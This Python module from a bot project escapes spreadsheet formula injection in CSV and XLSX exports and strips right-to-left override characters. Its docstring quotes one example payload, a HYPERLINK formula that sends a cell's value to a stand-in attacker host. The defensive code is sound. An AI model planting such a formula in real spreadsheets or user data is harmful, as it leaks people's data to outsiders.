"""Cells of the spreadsheets the bot writes: text that people typed (names, reasons, notes,
addresses, column names of an upload) is shown by Excel and LibreOffice but never evaluated.

A text starting with `=`, `+`, `-`, `@`, tab or carriage return would be read as a formula
(`=HYPERLINK("http://evil.example/?x="&A1,"Klik")` in a person's name). In a CSV such a text
gets a leading apostrophe, which spreadsheet programs take as "this is text"; in an XLSX it is
written as a string cell with the quote-prefix style, which shows it unchanged. Direction
controls (a right-to-left override) are taken out of every text (`bot.bidi`): a CSV row
is one line in a text editor, and the override would turn the cells after it around.

    writer.writerow(csv_row(values))
    sheet.append(xlsx_row(sheet, values))
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import TYPE_CHECKING, Any

from bot.bidi import without_controls
from bot.rules.households import looks_like_formula

if TYPE_CHECKING:
    from openpyxl.workbook.child import _WorkbookChild


def is_formula_like(value: object) -> bool:
    """True for a text a spreadsheet program would evaluate if written as it is."""
    return isinstance(value, str) and looks_like_formula(value)


def csv_row(values: Iterable[Any]) -> list[Any]:
    """The values of a CSV row, formula-like texts behind an apostrophe."""
    return [f"'{value}" if is_formula_like(value) else value for value in map(_cleaned, values)]


def xlsx_row(sheet: _WorkbookChild, values: Iterable[Any]) -> list[Any]:
    """The values of a worksheet row for `sheet.append`, formula-like texts as quoted strings."""
    return [_text_cell(sheet, value) if is_formula_like(value) else value for value in map(_cleaned, values)]


def _cleaned(value: Any) -> Any:
    return without_controls(value) if isinstance(value, str) else value


def _text_cell(sheet: _WorkbookChild, value: str) -> Any:
    from openpyxl.cell import WriteOnlyCell  # openpyxl is imported where used (start-up time)

    cell = WriteOnlyCell(sheet, value)
    cell.data_type = "s"  # openpyxl made it a formula ("f") because of the "="
    cell.quotePrefix = True
    return cell
